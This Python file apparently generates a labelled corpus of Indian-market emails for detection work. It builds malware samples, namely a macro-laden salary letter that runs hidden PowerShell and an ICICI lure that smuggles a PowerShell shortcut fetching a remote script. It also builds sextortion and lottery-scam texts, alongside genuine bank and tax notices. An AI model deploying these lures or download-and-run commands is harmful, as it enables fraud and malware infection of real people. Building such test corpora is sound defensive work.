             "    c = \"powershell -nop -w hidden -enc \" & \"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"\n"
             "    CreateObject(\"WScript.Shell\").Run c, 0, False\n"
             "End Sub\n")
    doc = files.docx(["NAVYUG INFOTECH PVT. LTD. - SALARY REVISION LETTER 2025",
                      "This document is protected. Click 'Enable Editing' and then 'Enable Content' to view your revised salary.",
                      "Employee: Neha Gupta"], "Salary Revision 2025", "PaySquare HR", macro=macro)
    paras = ["Dear Neha,", "",
             "On behalf of Navyug Infotech, please find attached your salary revision letter for 2025 processed by PaySquare "
             "(payroll partner). The document is protected - please click <b>Enable Editing</b> and <b>Enable Content</b> to view.", "",
             "Kindly confirm your bank account details in the letter before 10th April.", "",
             "Regards,", "Payroll Desk", "PaySquare HR Solutions Pvt. Ltd., Pune"]
    html = outlook_html(paras)
    head = "\n".join([
        f"From: {addr('PaySquare Payroll Desk', sender)}",
        f"To: {addr(NEHA[0], rcpt)}",
        "Subject: Salary Revision Letter 2025 - Neha Gupta (Confidential)",
        f"Date: {date}",
        f"Message-ID: <0000{hx(tag + 'm', 8)}${hx(tag + 'm2', 8)}${hx(tag + 'm3', 8)}$@paysquarehrsolutions.com>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        "Content-Language: en-in",
        f"Thread-Index: Adun{b64(tag + 'ti', 22)}",
    ])
    body = mixed(f"----=_NextPart_000_0019_01DBA7{hx(tag + 'b', 2).upper()}.{hx(tag + 'c', 8).upper()}", [
        alt(f"----=_NextPart_001_001A_01DBA7{hx(tag + 'b', 2).upper()}.{hx(tag + 'c', 8).upper()}", strip_tags("<br>".join(paras)), html, "quoted-printable"),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Salary_Revision_Letter_2025_Neha_Gupta.docm", doc),
    ])
    return assemble(provider="m365", rcpt=rcpt, mailfrom=sender, ip="111.118.215.98", rdns="md-in-12.webhostbox.net",
                    helo="md-in-12.webhostbox.net", spf="pass", dmarc="none", dkim=[("pass", "paysquarehrsolutions.com", "default")],
                    head=head, body=body,
                    hops=[exim_hop("DESKTOP-R2P8QJD", "194.26.29.113", "md-in-12.webhostbox.net", sender, rcpt, tag)])


@entry("b41-malware-icici-statement-smuggling", "malware",
       "ICICI 'your account statement for March 2025' mail from a look-alike domain with an HTML attachment that rebuilds a "
       "zip (holding a .pdf.lnk PowerShell shortcut) from base64 in JavaScript and saves it automatically (HTML smuggling).")
def icici_smuggling() -> bytes:
    tag = "ics1"
    date = "Wed, 02 Apr 2025 08:19:57 +0530"
    rcpt = "lakshmi.narayanan62@outlook.com"
    sender = "estatement@icicibank-estatements.com"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-nop -w hidden -c \"iex(iwr 'https://icicibank-estatements.com/s/st.ps1' -UseBasicParsing)\"")
    inner = files.zip_archive([("ICICI_Statement_Mar2025.pdf.lnk", lnk)])
    blob = base64.b64encode(inner).decode()
    chunks = "\n".join(f'"{blob[i:i + 100]}"+' for i in range(0, len(blob), 100)) + '""'
    page = html_page(f"""<div style="font-family:Arial;text-align:center;margin-top:80px">
<img src="https://www.icicibank.com/content/dam/icicibank/india/assets/images/header/logo.png" width="160" alt="ICICI Bank">
<p>Your statement is being downloaded. If the download does not start, <a href="#" onclick="dl();return false">click here</a>.</p>
<p style="font-size:12px;color:#777">Open the downloaded file to view your statement.</p></div>
<script>
var d={chunks};
function dl(){{var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var f=new Blob([u],{{type:"application/zip"}}),a=document.createElement("a");a.href=URL.createObjectURL(f);
a.download="ICICI_Statement_Mar2025.zip";document.body.appendChild(a);a.click();}}
window.onload=dl;
</script>""", "ICICI Bank e-Statement")
    html = html_page("""<div style="font-family:Arial;font-size:13px;max-width:600px">
<div style="background:#f37021;color:#fff;padding:10px 14px;font-size:18px"><b>ICICI Bank</b></div>
<p>Dear Customer,</p><p>Please find attached your ICICI Bank Savings Account statement for the period 01-03-2025 to 31-03-2025.</p>
<p>For security reasons the statement opens in your browser. Please open the attachment and follow the instructions.</p>
<p>Sincerely,<br>ICICI Bank Ltd.</p>
<p style="font-size:11px;color:#888">This is a system-generated e-mail. Please do not reply.</p></div>""")
    head = "\n".join([
        f"From: {addr('ICICI Bank e-Statement', sender)}",
        f"To: {rcpt}",
        "Subject: Your ICICI Bank Account Statement for March 2025",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 24)}@icicibank-estatements.com>",
        "MIME-Version: 1.0",
    ])
    body = mixed(f"----=_Part_{digits(tag + 'b', 6)}_{digits(tag + 'c', 9)}", [
        alt(f"----=_Part_{digits(tag + 'd', 6)}_{digits(tag + 'e', 9)}", strip_tags(html), html, "quoted-printable"),
        attachment("text/html", "ICICI_Statement_Mar2025.html", page.encode()),
    ])
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=sender, ip="45.141.58.203", rdns="mail.icicibank-estatements.com",
                    helo="mail.icicibank-estatements.com", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "icicibank-estatements.com", "default")], head=head, body=body)


@entry("b41-phish-sextortion-hinglish", "phishing",
       "Hinglish/English sextortion 'I hacked your phone and recorded you, pay Rs 1,15,000 in Bitcoin within 48 hours' "
       "mail spoofing the victim's own Rediffmail address from a VPS (SPF softfail, DMARC fail), with a BTC address and no link.")
def sextortion() -> bytes:
    tag = "sex1"
    date = "Tue, 04 Mar 2025 01:47:22 +0530"
    rcpt = "vinod.kumar77@rediffmail.com"
    btc = "bc1q" + an(tag, 38, "023456789acdefghjklmnpqrstuvwxyz")
    plain = ("Hello Vinod,\n\n"
             "Maine aapke phone aur computer ko 4 mahine pehle hack kar liya tha jab aapne ek adult website par ek link "
             "click kiya tha. Tab se main aapki har activity dekh raha hoon. Mere paas aapke camera se record ki gayi "
             "aapki private video hai, aur aapke saare contacts, WhatsApp aur email ki list bhi hai.\n\n"
             "I have your private video and the full contact list of your family, friends and colleagues.\n\n"
             "Agar aap chahte hain ki yeh video delete ho jaye, to 48 ghante ke andar Rs. 1,15,000 ke barabar Bitcoin "
             "is address par bhejein:\n\n"
             f"{btc}\n\n"
             "Bitcoin kaise kharidna hai Google par search karein (WazirX, CoinDCX, Binance).\n"
             "Payment milte hi video hamesha ke liye delete ho jayegi. Agar payment nahi mila to video aapke saare "
             "contacts ko bhej di jayegi. Police ke paas jaane ka koi fayda nahi, mujhe trace nahi kiya ja sakta.\n\n"
             "Yeh email maine aapke hi account se bheja hai - dekh lijiye.\n")
    head = "\n".join([
        f"From: {addr('Vinod', rcpt)}",
        f"To: {rcpt}",
        f"Subject: {rcpt} - aapka account hack ho chuka hai",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 12)}.{hx(tag + 'm2', 12)}@rediffmail.com>",
        "MIME-Version: 1.0",
        "X-Priority: 1",
    ])
    body = leaf_text(plain, "plain", "quoted-printable")
    return assemble(provider="rediff", rcpt=rcpt, mailfrom=rcpt, ip="179.43.170.22", rdns="179-43-170-22.static.privatelayer.com",
                    helo="WIN-3K7L9Q2P1RT", spf="softfail", dmarc="fail", policy_="none", dkim=[], head=head, body=body, tls=False)


@entry("b41-phish-flipkart-luckydraw-bengali", "phishing",
       "Bengali Flipkart 'anniversary lucky draw - you won a Tata Nexon, pay Rs 8,500 registration' advance-fee scam from a "
       "Gmail account, with a claim page on Google Sites (abuse of a genuine platform) and a UPI ID for the fee.")
def flipkart_lucky() -> bytes:
    tag = "fk1"
    date = "Sat, 11 Jan 2025 17:36:14 +0530"
    rcpt = "subhajit.das.hwh@gmail.com"
    sender = "flipkart.luckydraw.winner2025@gmail.com"
    site = "https://sites.google.com/view/flipkart-lucky-draw-winner-2025/home"
    plain = ("অভিনন্দন!\n\n"
             "Flipkart-এর বার্ষিক লাকি ড্র ২০২৫-এ আপনার ইমেল নির্বাচিত হয়েছে। আপনি জিতেছেন একটি TATA NEXON গাড়ি "
             "(অথবা নগদ ₹12,80,000)।\n\n"
             f"লাকি কুপন নম্বর: FKLD-{digits(tag, 6)}\n\n"
             f"পুরস্কার দাবি করতে নিচের লিংকে গিয়ে ফর্ম পূরণ করুন:\n{site}\n\n"
             f"রেজিস্ট্রেশন ফি ₹8,500 নিম্নলিখিত UPI আইডিতে পাঠান: flipkartluckydraw{digits(tag + 'u', 2)}@axl\n"
             "ফি না পাঠালে ৩ দিনের মধ্যে পুরস্কার বাতিল হয়ে যাবে।\n\n"
             "ধন্যবাদ,\nFlipkart লাকি ড্র বিভাগ\n")
    html = gmail_html([l if "sites.google" not in l else f'<a href="{site}">{site}</a>' for l in plain.split("\n")])
    head = gmail_head(addr("Flipkart Lucky Draw", sender), rcpt, enc("অভিনন্দন! আপনি Flipkart লাকি ড্র-তে TATA NEXON জিতেছেন"), date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, "base64", upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


# ================================================================ legitimate

@entry("b41-legit-sbi-estatement", "bulk",
       "Genuine SBI monthly e-account statement from alerts.sbi.co.in with the statement as a password-protected PDF "
       "(password: last 5 digits of mobile + date of birth), no links to act on.")
def sbi_statement() -> bytes:
    tag = "lsbi"
    date = "Wed, 02 Apr 2025 03:18:44 +0530"
    rcpt = RAJESH[1]
    sender = "cbssbi.info@alerts.sbi.co.in"
    acct = "XXXXXXX" + digits(tag, 4)
    pdf = encrypted_pdf(["STATE BANK OF INDIA", f"Account Statement  A/c No: {acct}", "Period: 01-03-2025 to 31-03-2025",
                         "Branch: KAROL BAGH, NEW DELHI   IFSC: SBIN0001276", "", "Date        Description                        Debit      Credit     Balance",
                         "01-03-2025  Opening Balance                                                 84,216.40",
                         "03-03-2025  BY TRANSFER-NEFT SALARY                              68,450.00  1,52,666.40",
                         "05-03-2025  TO TRANSFER-UPI/DR/5061/BESCOM          2,310.00                 1,50,356.40",
                         "31-03-2025  Closing Balance                                                 1,31,904.12"],
                        "41294" + "150884", "sbi-cbs-" + hx(tag, 8), "SBI CBS e-Statement Generator", tag)
    plain = (f"Dear Customer,\n\nPlease find attached the e-Account Statement for your account {acct} for the period "
             "01-03-2025 to 31-03-2025.\n\n"
             "The attachment is password protected. To open it, enter the last 5 digits of your registered mobile number "
             "followed by your date of birth in DDMMYY format (e.g. if mobile is 98XXX12345 and DOB is 15-08-1984, the "
             "password is 12345150884).\n\n"
             "State Bank never asks for your password, OTP, PIN or card details through e-mail, SMS or calls. "
             "Please do not share them with anyone.\n\n"
             "This is a system generated mail. Please do not reply to this e-mail.\n\n"
             "Warm Regards,\nState Bank of India\n")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('SBI', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 7)}.{digits(tag + 'm3', 13)}@alerts.sbi.co.in>",
        f"Subject: e-Account Statement for A/c {acct} for 01-03-2025 to 31-03-2025",
        "MIME-Version: 1.0",
    ])
    bnd = f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    body = mixed(bnd, [leaf_text(plain, "plain", "7bit"),
                       attachment("application/pdf", f"{acct[-4:]}_{digits(tag + 'f', 8)}_0104202500.pdf", pdf)])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="103.27.60.35", rdns="mailgw2.alerts.sbi.co.in",
                    helo="mailgw2.alerts.sbi.co.in", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "alerts.sbi.co.in", "sbialerts")], head=head, body=body)


@entry("b41-legit-hdfc-upi-alert", "bulk",
       "Genuine HDFC Bank InstaAlert for a UPI debit to Swiggy, with the bank's 'if you did not authorise this, call / SMS "
       "BLOCK UPI' advice and no links beyond hdfcbank.com.")
def hdfc_alert() -> bytes:
    tag = "lhdfc"
    date = "Fri, 14 Mar 2025 20:41:07 +0530"
    rcpt = MEENAKSHI[1]
    sender = "alerts@hdfcbank.net"
    ref = "5073" + digits(tag, 8)
    html = html_page(f"""<table width="600" cellpadding="0" cellspacing="0" align="center" style="font-family:Arial;font-size:13px;color:#333;border:1px solid #ddd">
<tr><td style="padding:12px 16px;border-bottom:2px solid #004c8f"><img src="https://www.hdfcbank.com/content/api/contentstream-id/723fb80a-2dde-42a3-9793-7ae1be57c87f/5ed6b6c5-7e1a-4f9a-b4e8-1f5c3b5e7b8c/Common/Header/hdfc-bank-logo.png" alt="HDFC Bank" width="150"></td></tr>
<tr><td style="padding:18px 16px;line-height:20px">Dear Customer,<br><br>
Rs.450.00 has been debited from account **{digits(tag + 'a', 4)} to VPA swiggy.stores@axb SWIGGY on 14-03-25.<br><br>
Your UPI transaction reference number is {ref}.<br><br>
If you did not authorize this transaction, please report it immediately by calling 18002586161 Or SMS BLOCK UPI to 7308080808.<br><br>
Warm Regards,<br>HDFC Bank</td></tr>
<tr><td style="padding:10px 16px;font-size:11px;color:#777;background:#f5f5f5">
For more details on Service charges and Fees, <a href="https://www.hdfcbank.com/personal/resources/service-charges-and-fees">click here</a>.<br>
&copy; HDFC Bank. This is a system generated e-mail. Please do not reply to this e-mail.</td></tr></table>""", "HDFC Bank InstaAlerts")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('HDFC Bank InstaAlerts', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 10)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}.JavaMail.infinity@hdfcbank.net>",
        f"Subject: {enc('❗  You have done a UPI txn. Check details!')}",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(html, "html", "quoted-printable")
    return assemble(provider="outlook", rcpt=rcpt, mailfrom="alerts@hdfcbank.net", ip="175.100.161.72", rdns="mailout2.hdfcbank.net",
                    helo="mailout2.hdfcbank.net", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "hdfcbank.net", "hdfcsmtp")], head=head, body=body)


@entry("b41-legit-icici-cc-statement", "bulk",
       "Genuine ICICI Bank credit-card statement mail with the statement as a password-protected PDF (first four letters "
       "of name + DDMM of birth), payment due summary and links only to icicibank.com.")
def icici_statement() -> bytes:
    tag = "licc"
    date = "Sat, 05 Apr 2025 07:02:15 +0530"
    rcpt = SREENIVAS[1]
    sender = "credit_cards@icicibank.com"
    card = "XXXX XXXX XXXX " + digits(tag, 4)
    pdf = encrypted_pdf(["ICICI Bank Credit Card Statement", f"Card Number: {card}", "Statement Date: March 22, 2025",
                         "Total Amount Due: Rs. 23,418.56   Minimum Amount Due: Rs. 1,180.00", "Payment Due Date: April 9, 2025", "",
                         "Transactions: AMAZON PAY INDIA 2,349.00 | APOLLO PHARMACY 1,206.40 | IRCTC 3,215.00",
                         "Reward Points earned this cycle: 412"], "sree" + "1407", "icici-cc-" + hx(tag, 8), "ICICI Bank Statement Engine", tag)
    html = html_page(f"""<table width="620" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;font-size:13px;border:1px solid #ddd">
<tr><td style="padding:12px 16px;background:#f37021;color:#fff;font-size:18px"><b>ICICI Bank</b></td></tr>
<tr><td style="padding:18px 16px;line-height:20px">Dear Sreenivas Reddy K,<br><br>
Your ICICI Bank Credit Card {card} statement for the period ending March 22, 2025 is attached.<br><br>
<table cellpadding="6" style="border-collapse:collapse;font-size:13px"><tr><td style="border:1px solid #ccc">Total Amount Due</td><td style="border:1px solid #ccc">Rs. 23,418.56</td></tr>
<tr><td style="border:1px solid #ccc">Minimum Amount Due</td><td style="border:1px solid #ccc">Rs. 1,180.00</td></tr>
<tr><td style="border:1px solid #ccc">Payment Due Date</td><td style="border:1px solid #ccc">April 9, 2025</td></tr></table><br>
The attachment is password protected. The password is the first four letters of your name (in lower case) followed by your date of
birth in DDMM format. For example, if your name is Ajay and date of birth is 5th July, the password will be ajay0507.<br><br>
You can pay using iMobile Pay, Internet Banking or any UPI app. To know more visit
<a href="https://www.icicibank.com/card/credit-cards/credit-card-payment">www.icicibank.com</a>.<br><br>
Sincerely,<br>ICICI Bank Limited</td></tr>
<tr><td style="padding:10px 16px;font-size:11px;color:#777;background:#f5f5f5">Never share your card number, CVV, OTP or PIN with anyone.
ICICI Bank never asks for these details over phone, SMS or e-mail. This is a system-generated e-mail, please do not reply.</td></tr></table>""", "ICICI Bank")
    head = "\n".join([
        f"From: {addr('ICICI Bank Credit Cards', sender)}",
        f"To: {rcpt}",
        f"Subject: Your ICICI Bank Credit Card XX{digits(tag, 4)} Statement for March 2025",
        f"Date: {date}",
        f"Message-ID: <{digits(tag + 'm', 13)}.{hx(tag + 'm2', 8)}@icicibank.com>",
        "MIME-Version: 1.0",
    ])
    body = mixed(f"----=_Part_{digits(tag + 'b', 8)}_{digits(tag + 'c', 10)}", [
        leaf_text(html, "html", "quoted-printable"),
        attachment("application/pdf", f"CCStatement_{digits(tag + 'f', 8)}.pdf", pdf),
    ])
    return assemble(provider="outlook", rcpt=rcpt, mailfrom="credit_cards@icicibank.com", ip="203.189.92.141",
                    rdns="mailout4.icicibank.com", helo="mailout4.icicibank.com", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "icicibank.com", "icici")], head=head, body=body)


@entry("b41-legit-axis-login-alert", "bulk",
       "Genuine Axis Bank security alert 'login to Axis Mobile from a new device' sent through Netcore, telling the customer "
       "to call the helpline if it was not them; links only to axisbank.com, no form.")
def axis_login() -> bytes:
    tag = "laxis"
    date = "Mon, 19 May 2025 09:12:30 +0530"
    rcpt = "deepak.enterprises.nsk@outlook.com"
    sender = "alerts@axisbank.com"
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;font-size:14px;color:#333;border:1px solid #e2e2e2">
<tr><td style="background:#97144d;padding:14px 18px"><img src="https://www.axisbank.com/assets/images/logo-white.png" width="130" alt="AXIS BANK"></td></tr>
<tr><td style="padding:20px 18px;line-height:22px">Dear Deepak Enterprises,<br><br>
Your Axis Mobile app was logged into from a new device on 19-05-2025 at 09:11:52 IST.<br><br>
Device: Samsung SM-A356E<br>Location: Nashik, Maharashtra<br><br>
If this was you, no action is required.<br>
If you did not do this, please call us immediately on 1860 419 5555 / 1860 500 5555 or block your access from the
Axis Mobile app on your registered device.<br><br>
Axis Bank never asks for your Customer ID, password, OTP or card details over e-mail or phone.<br><br>
Regards,<br>Axis Bank Ltd.</td></tr>
<tr><td style="padding:12px 18px;font-size:11px;color:#777;background:#f7f7f7">This is a system generated e-mail. Please do not reply.
<a href="https://www.axisbank.com/contact-us">Contact us</a> | <a href="https://www.axisbank.com/privacy-policy">Privacy Policy</a></td></tr></table>""", "Axis Bank")
    head = "\n".join([
        f"From: {addr('Axis Bank Alerts', sender)}",
        f"To: {rcpt}",
        "Subject: Security Alert: Login to Axis Mobile from a new device",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 32)}@axisbank.com>",
        "MIME-Version: 1.0",
        f"X-Netcore-Message-ID: {hx(tag + 'nc', 24)}",
        "Feedback-ID: axisbank:transactional:netcore",
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}", strip_tags(html), html, "quoted-printable")
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=f"bounce-{hx(tag + 'bn', 12)}@bounce.axisbank.com",
                    ip="163.47.180.28", rdns="mta28.transmail.netcorecloud.net", helo="mta28.transmail.netcorecloud.net",
                    spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "axisbank.com", "nc2048"), ("pass", "netcorecloud.net", "ncc")], head=head, body=body)


@entry("b41-legit-paytm-receipt", "bulk",
       "Genuine Paytm payment receipt for an LPG cylinder booking paid by UPI, with order details and links to paytm.com "
       "help; the kind of receipt the cashback scams imitate.")
def paytm_receipt() -> bytes:
    tag = "lpaytm"
    date = "Sun, 09 Feb 2025 11:26:48 +0530"
    rcpt = AMIT[1]
    sender = "no-reply@paytm.com"
    order = digits(tag, 11)
    html = html_page(f"""<div style="max-width:560px;margin:auto;font-family:Arial;color:#222;border:1px solid #eee">
<div style="padding:16px;background:#00baf2;color:#fff;font-size:20px;font-weight:bold">Paytm</div>
<div style="padding:18px;font-size:14px;line-height:22px">
<p style="font-size:18px"><b>Payment Successful</b></p>
<p>Paid <b>&#8377;853.00</b> to <b>Bharat Gas - LPG Cylinder Booking</b></p>
<table cellpadding="4" style="font-size:13px;color:#555">
<tr><td>Consumer No.</td><td>{digits(tag + 'c', 7)}</td></tr><tr><td>Order ID</td><td>{order}</td></tr>
<tr><td>UPI Ref. No.</td><td>{digits(tag + 'u', 12)}</td></tr><tr><td>Paid from</td><td>State Bank Of India - {digits(tag + 'a', 4)}</td></tr>
<tr><td>Date &amp; Time</td><td>09 Feb 2025, 11:26 AM</td></tr></table>
<p>Need help with this payment? <a href="https://paytm.com/care">Contact 24x7 Help</a></p></div>
<div style="padding:12px;font-size:11px;color:#888;background:#f7f9fa">One 97 Communications Limited, Noida. Paytm never asks for your
UPI PIN or OTP to receive money.</div></div>""", "Paytm")
    head = "\n".join([
        f"From: {addr('Paytm', sender)}",
        f"To: {rcpt}",
        "Subject: Payment of Rs.853 to Bharat Gas successful",
        f"Date: {date}",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(tag)}",
        ses_feedback(tag),
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}", strip_tags(html), html, "quoted-printable")
    ip, rdns, helo = ses_conn(tag)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"0109{hx(tag + 'bn', 12)}-{hx(tag + 'bn2', 8)}-000000@mailer.paytm.com",
                    ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "paytm.com", "pt2048"), ("pass", "amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7")],
                    head=head, body=body)


@entry("b41-legit-itrv-acknowledgement", "bulk",
       "Genuine Income Tax e-filing acknowledgement 'Filing of ITR for AY 2025-26' with the ITR-V as a password-protected "
       "PDF (PAN in lower case + date of birth), pointing to incometax.gov.in only.")
def itrv() -> bytes:
    tag = "litrv"
    date = "Tue, 29 Jul 2025 18:44:03 +0530"
    rcpt = "karthik.s.chn@gmail.com"
    sender = "donotreply@incometax.gov.in"
    ack = digits(tag, 15)
    pdf = encrypted_pdf(["INDIAN INCOME TAX RETURN ACKNOWLEDGEMENT", "Assessment Year 2025-26", "",
                         "PAN: BXXPS" + digits(tag + "p", 4) + "K    Name: KARTHIK S", "Form Number: ITR-1",
                         f"e-Filing Acknowledgement Number: {ack}", "Date of filing: 29-Jul-2025", "",
                         "Total Income 11,84,600   Net tax payable 0   Refundable 6,210"],
                        "bxxps" + digits(tag + "p", 4) + "k" + "21061990", "itd-" + hx(tag, 10), "Income Tax Department", tag)
    html = html_page(f"""<div style="font-family:Arial;font-size:13px;line-height:20px;max-width:640px">
<p>Dear KARTHIK S,</p>
<p>PAN: BXXPSXXXXK<br>Assessment Year: 2025-26</p>
<p>Your Income Tax Return for Assessment Year 2025-26 has been filed and verified successfully on 29-Jul-2025 with
acknowledgement number {ack}. The return will now be processed by CPC.</p>
<p>The acknowledgement (ITR-V) is attached. It is password protected; the password is your PAN (in lower case) and date of
birth in DDMMYYYY format, e.g. abcde1234f01011990.</p>
<p>You can also view the status of your return on the e-Filing portal <a href="https://www.incometax.gov.in">www.incometax.gov.in</a>
under e-File &gt; Income Tax Returns &gt; View Filed Returns.</p>
<p>Regards,<br>e-Filing Team<br>Income Tax Department</p>
<p style="font-size:11px;color:#666">Please do not reply to this mail as this is an auto-generated mail from an unmonitored mailbox.
The Income Tax Department never asks for your PIN numbers, passwords or similar access information for credit cards, banks or other
financial accounts through e-mail.</p></div>""")
    head = "\n".join([
        f"Date: {date}",
        f"From: {sender}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@incometax.gov.in>",
        "Subject: Filing of ITR for the Assessment Year 2025-26 - Acknowledgement",
        "MIME-Version: 1.0",
    ])
    bnd = f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    body = mixed(bnd, [leaf_text(html, "html", "quoted-printable"),
                       attachment("application/pdf", f"{ack}.pdf", pdf)])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom="donotreply@incometax.gov.in", ip="164.100.151.38",
                    rdns="mailer2.incometax.gov.in", helo="mailer2.incometax.gov.in", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "incometax.gov.in", "itd")], head=head, body=body)


@entry("b41-legit-itd-143-intimation", "bulk",
       "Genuine CPC Bengaluru intimation under section 143(1) determining a refund, with the intimation as a "
       "password-protected PDF; the real version of the refund notices the phishing imitates.")
def intimation() -> bytes:
    tag = "l1431"
    date = "Thu, 18 Sep 2025 02:33:51 +0530"
    rcpt = "suresh.yadav.pnp@gmail.com"
    sender = "intimations@cpc.incometax.gov.in"
    pan = "ANKPY" + digits(tag, 4) + "D"
    pdf = encrypted_pdf(["INCOME TAX DEPARTMENT - CENTRALIZED PROCESSING CENTRE, BENGALURU",
                         "Intimation under section 143(1) of the Income-tax Act, 1961", f"PAN: {pan}   AY: 2025-26",
                         "Communication Reference No.: CPC/2526/A1/" + digits(tag + "c", 9), "",
                         "Refund determined: Rs. 4,870   Interest u/s 244A: Rs. 146",
                         "The refund will be credited to the pre-validated bank account."],
                        pan.lower() + "04111979", "cpc-" + hx(tag, 10), "CPC Bengaluru", tag)
    plain = (f"Dear Taxpayer,\n\nPAN: {pan[:2]}XXXXXXX{pan[-1]}\nAssessment Year: 2025-26\n\n"
             "Your return for the above Assessment Year has been processed under section 143(1) at CPC, Bengaluru. "
             "The intimation is attached with this mail.\n\n"
             "The attachment is password protected. The password is your PAN in lower case followed by your date of "
             "birth in DDMMYYYY format.\n\n"
             "A refund of Rs. 5,016 (including interest u/s 244A) has been determined and will be credited to your "
             "pre-validated bank account.\n\n"
             "For any clarification, please call the CPC help desk at 1800 103 0025 / 080 4612 2000.\n\n"
             "This is a system generated mail. Please do not reply.\n\nCentralized Processing Centre\nIncome Tax Department\n")
    head = "\n".join([
        f"Date: {date}",
        f"From: {sender}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@cpc.incometax.gov.in>",
        f"Subject: Intimation u/s 143(1) for PAN {pan[:2]}XXXXXXX{pan[-1]} AY 2025-26",
        "MIME-Version: 1.0",
    ])
    bnd = f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    body = mixed(bnd, [leaf_text(plain, "plain", "7bit"),
                       attachment("application/pdf", f"{pan}_AY2025-26_143(1).pdf".replace("(", "").replace(")", ""), pdf)])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="164.100.151.44", rdns="mailer8.cpc.incometax.gov.in",
                    helo="mailer8.cpc.incometax.gov.in", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "cpc.incometax.gov.in", "cpc")], head=head, body=body)


@entry("b41-legit-gst-gstr3b-filed", "bulk",
       "Genuine GST Network acknowledgement 'GSTR-3B for March 2025 filed successfully' with the ARN, delivered to a "
       "trader's self-hosted Postfix server; no links to act on.")
def gstr3b() -> bytes:
    tag = "lgst"
    date = "Sat, 19 Apr 2025 21:07:36 +0530"
    rcpt = SGT[1]
    sender = "donotreply@gst.gov.in"
    gstin = "24ABCFS" + digits("gst1", 4) + "K1ZQ"
    arn = "AA24042" + digits(tag, 8)
    html = html_page(f"""<div style="font-family:Arial;font-size:13px;line-height:20px">
<p>Dear Taxpayer,</p>
<p>This is to inform you that your Form GSTR-3B for the tax period March 2025 has been successfully filed with the following details:</p>
<table cellpadding="5" style="border-collapse:collapse;font-size:13px" border="1">
<tr><td>GSTIN</td><td>{gstin}</td></tr><tr><td>Legal Name</td><td>SHREE GANESH TRADERS</td></tr>
<tr><td>Return Type</td><td>GSTR-3B</td></tr><tr><td>Tax Period</td><td>March 2025</td></tr>
<tr><td>Date of Filing</td><td>19/04/2025</td></tr><tr><td>ARN</td><td>{arn}</td></tr></table>
<p>It is a system generated e-mail please do not reply to the same.</p>
<p>Thanks,<br>Goods and Services Tax Network</p></div>""")
    head = "\n".join([
        f"Date: {date}",
        f"From: {sender}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@gst.gov.in>",
        f"Subject: Successful Filing of GSTR3B for GSTIN {gstin} for the period 032025",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(html, "html", "quoted-printable")
    return assemble(provider="postfix", host=SGT_HOST, rcpt=rcpt, mailfrom=sender, ip="14.142.224.75", rdns="mail2.gst.gov.in",
                    helo="mail2.gst.gov.in", spf="pass", dmarc="pass", policy_="reject", dkim=[("pass", "gst.gov.in", "gstn")],
                    head=head, body=body)


@entry("b41-legit-ca-gst-notice-client", "clean",
       "A chartered accountant writes from Zoho Mail to a client about a genuine DRC-01A intimation seen on the GST portal, "
       "attaching the notice PDF and warning not to act on emailed GST links; real business correspondence.")
def ca_gst() -> bytes:
    tag = "lca"
